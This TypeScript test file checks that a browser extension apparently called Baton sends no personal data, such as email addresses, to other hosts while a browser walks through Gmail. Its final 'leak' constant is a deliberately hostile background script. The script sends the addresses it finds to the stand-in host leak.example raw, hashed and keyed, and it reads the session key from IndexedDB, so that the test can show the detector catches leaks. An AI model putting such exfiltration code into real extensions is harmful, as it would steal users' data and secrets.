import { gzipSync } from 'node:zlib';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Session } from '#contract/session.ts';
import type { RunningBrowser } from '../browsers/launch.ts';
import { sampleHosts } from '../fixtures/sites/routes.ts';
import { createCrowd, respondWithCrowd } from '../fixtures/unknown-crowd.ts';
import { type BuildCopy, copyBuildWithCode } from './harness/copy-build.ts';
import { joinStore } from './harness/device.ts';
import { rep, type Sample, startSample } from './harness/sample.ts';
import { type Seen, type Traffic, unpack, watchTraffic } from './harness/watch-traffic.ts';
import { connect } from './people/connect.ts';
import { strollThrough, tellCrowd } from './people/stroll.ts';
import { beginningsOf, findBeginnings, findTraces, formsOf, type Identity } from './people/traces.ts';

const browserName = inject('browserName');
const me = { name: rep.name, email: rep.email };
/** Firefox, which is slower to drive, walks a part of the way. */
const whole =
  browserName === 'chromium' ? { threads: 50, profiles: 20, records: 20 } : { threads: 8, profiles: 6, records: 4 };
const crowd = createCrowd(whole, me);
const few = createCrowd({ threads: 2, profiles: 6, records: 1 }, me);

let sample: Sample;
let session: Session;

beforeAll(async () => {
  sample = await startSample();
  session = (await joinStore(await sample.store.invite('rep', 'reader@kestrel.example'), 'Reader')).session;
});
afterAll(() => sample?.close());

/** What went to anybody but the sample sites, whose own pages ask them for what they show. */
function toOthers(traffic: Traffic): Seen[] {
  return traffic.requests.filter(({ host }) => !(sampleHosts as readonly string[]).includes(host));
}

/** The same, as the search for traces reads it: a host can carry a name too. */
function searched(seen: readonly Seen[]): Seen[] {
  return seen.map((each) => ({ ...each, path: `${each.host}${each.path}` }));
}

function findAll(seen: readonly Seen[], identities: readonly Identity[]): string[] {
  const forms = [...new Set(identities.flatMap((each) => formsOf(each, session)))];
  const begins = [...new Set(identities.flatMap((each) => beginningsOf(each, session)))];
  return [...findTraces(searched(seen), forms), ...findBeginnings(searched(seen), begins)];
}

/** A connected browser all of whose traffic is seen, with a tab at rest for the walk. */
async function openWatched(
  seenBy: ReturnType<typeof createCrowd>,
  build?: BuildCopy,
): Promise<{ traffic: Traffic; browser: RunningBrowser; tab: Page }> {
  const traffic = await watchTraffic(sampleHosts, respondWithCrowd(seenBy, me));
  const browser = await sample.launch(browserName, {
    proxyPort: traffic.port,
    ...(build && { extension: build.folder }),
  });
  const options = await connect(browser, await sample.store.invite('rep', me.email), me.name);
  await options.waitForFunction(() => document.body.innerText.includes('As of'), { timeout: 30_000 });
  return { traffic, browser, tab: await browser.newPage('https://mail.google.com/mail/u/0/#inbox') };
}

describe(`nothing that ${browserName} shows leaves it`, () => {
  it('the search finds what is packed, encoded, hashed, or in a host', () => {
    const [identity] = tellCrowd(few) as [Identity];
    const address = identity.clues[0]?.value ?? '';
    const packed = unpack(gzipSync(`seen=${address}`), 'gzip').toString('latin1');
    const nothing = { host: 'x.example', method: 'GET', path: '/', headers: '', body: '', at: 0 };
    const [keyed] = beginningsOf({ clues: identity.clues.slice(0, 1), words: [] }, session);
    const carriers = [
      { body: packed },
      { host: address.replace('@', '.') },
      { path: `/?q=${encodeURIComponent(identity.words[0] ?? '')}` },
      { headers: `x-name: ${escapeLetters(identity.words[0] ?? '')}` },
      { body: Buffer.from(address).toString('hex') },
      { path: `/${Buffer.from(`12${address}`).toString('base64')}` },
      { path: `/k/${keyed}` },
    ];
    for (const carrier of carriers) expect(findAll([{ ...nothing, ...carrier }], [identity])).not.toEqual([]);
    expect(findAll([{ ...nothing, body: 'seen=somebody@else.example' }], [identity])).toEqual([]);
  });

  it('a walk among strangers puts nothing of them into any request, and causes none', async () => {
    const { traffic, browser, tab } = await openWatched(crowd);
    try {
      const began = performance.now();
      await strollThrough(tab, crowd);
      const tookMs = performance.now() - began;
      const all = toOthers(traffic);
      const storeHost = new URL(sample.store.url).host;
      const store = all.filter(({ host, at, method }) => host === storeHost && at >= began && method !== 'OPTIONS');
      // Whatever the walk showed, the store was asked for nothing but what is new, as a clock makes it be asked: by the alarm of each minute and the panel's beat.
      expect(store.filter(({ method, path, body }) => !isUsual(method, path) || body !== '')).toEqual([]);
      expect(store.length).toBeLessThanOrEqual(2 * Math.ceil(tookMs / 55_000) + 3);
      expect(findAll(all, tellCrowd(crowd))).toEqual([]);
      // What the browser's maker is asked is not Baton's, and was searched above all the same; Baton itself knows one host.
      expect(all.some(({ host }) => host === storeHost)).toBe(true);
    } finally {
      await browser.close();
      await traffic.close();
    }
  }, 300_000);

  it('a background that sends an address, its hash, or its key’s beginning is caught', async () => {
    const build = await copyBuildWithCode(browserName, leak);
    const { traffic, browser, tab } = await openWatched(few, build);
    try {
      await strollThrough(tab, few);
      const leaked = toOthers(traffic).filter(({ host }) => host === 'leak.example');
      for (const path of ['/raw', '/hashed', '/keyed'])
        expect(
          findAll(
            leaked.filter((each) => each.path.startsWith(path)),
            tellCrowd(few),
          ),
          path,
        ).not.toEqual([]);
    } finally {
      await browser.close();
      await traffic.close();
      await build.remove();
    }
  }, 150_000);
});

/** As a writer of JSON may that trusts in ASCII alone. */
function escapeLetters(text: string): string {
  return text.replace(/[^ -~]/g, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

function isUsual(method: string, path: string): boolean {
  return method === 'GET' && /^\/v1\/(pull\?after=\d+\.[\w-]+|live|session)\b/.test(path);
}

/** What a broken check would do: each address that a page's message names goes out, as it is, hashed, and as the first bits of its key. */
const leak = `
  const api = globalThis.browser ?? chrome;
  const say = (path) => fetch('https://leak.example' + path, { mode: 'no-cors' }).catch(() => undefined);
  const hex = (bytes) => Array.from(new Uint8Array(bytes), (each) => each.toString(16).padStart(2, '0')).join('');
  const bytesOf = (text) => new TextEncoder().encode(text);
  const readKey = () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('baton-local');
    opening.onerror = () => reject(opening.error);
    opening.onsuccess = () => {
      const asked = opening.result.transaction('values').objectStore('values').get('connection');
      asked.onsuccess = () => { opening.result.close(); resolve(asked.result.session.hashing.key); };
    };
  });
  api.runtime.onMessage.addListener((message) => {
    const addresses = new Set(JSON.stringify(message).match(/[\\w.+-]+@[\\w.-]+\\.example/g) ?? []);
    for (const address of addresses) void (async () => {
      await say('/raw?a=' + btoa('x' + address));
      await say('/hashed?a=' + hex(await crypto.subtle.digest('SHA-256', bytesOf(address))));
      const raw = Uint8Array.from(atob((await readKey()).replaceAll('-', '+').replaceAll('_', '/')), (each) => each.charCodeAt(0));
      const key = await crypto.subtle.importKey('raw', raw, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
      await say('/keyed?k=' + hex(await crypto.subtle.sign('HMAC', key, bytesOf('email:' + address))).slice(0, 12));
    })();
  });
`;
